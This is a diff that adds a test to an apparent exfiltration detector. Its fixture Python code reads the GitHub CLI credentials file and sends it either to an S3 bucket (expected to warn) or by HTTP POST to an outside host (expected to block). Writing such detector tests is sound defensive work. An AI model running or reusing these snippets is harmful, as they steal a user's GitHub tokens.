@@ -64,3 +64,14 @@ test.each([
 ])("leaves %s alone", async (_, path, code) => {
   expect(await sent(path, code)).toEqual([]);
 });
+
+test("leaves to a person what goes to a store that the user's own login opens", async () => {
+  const code = (call: string) =>
+    `import boto3, os\ntext = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()\n${call}\n`;
+  expect(
+    await sent("a.py", code('boto3.client("s3").put_object(Bucket=os.environ["BUCKET"], Key="k", Body=text)')),
+  ).toEqual(["warn"]);
+  expect(await sent("a.py", code('import requests\nrequests.post("https://in.statsbox.net/u", data=text)'))).toEqual([
+    "block",
+  ]);
+});
